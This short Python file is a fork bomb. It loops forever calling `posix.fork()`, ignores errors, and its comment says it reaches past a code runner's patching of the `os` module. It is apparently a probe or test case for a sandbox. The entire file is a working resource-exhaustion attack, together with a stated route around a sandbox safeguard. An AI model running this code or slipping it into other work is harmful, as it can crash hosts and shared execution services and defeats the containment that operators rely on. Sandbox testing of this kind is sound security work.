# Fork bomb through `posix.fork`, which the runner's patching of `os` does not reach.
import posix
while True:
    try:
        posix.fork()
    except OSError:
        pass
